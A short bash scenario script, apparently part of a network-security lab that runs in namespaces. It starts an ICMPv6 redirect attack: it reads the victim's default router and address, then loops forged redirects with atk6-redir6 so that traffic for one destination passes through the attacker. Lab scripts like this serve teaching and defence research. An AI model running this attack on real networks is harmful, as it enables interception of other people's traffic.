# shellcheck shell=bash
# Forged ICMPv6 redirects lead one destination of the victim to the attacker.
start() { att_forward; local r; r=$(ns victim ip -6 route show default | sed -n 's/.*via \([0-9a-f:]*\).*/\1/p' | head -1)
  local v; v=$(ns victim ip -6 addr show dev eth0 scope global | sed -n 's/.*inet6 \([0-9a-f:]*\).*/\1/p' | head -1); mark
  sbg attacker redir bash -c "for i in \$(seq 100); do atk6-redir6 eth0 $v 2001:db8:100::10 $r fe80::77:ff:fe00:66 $ATT_MAC; sleep 3; done"; }
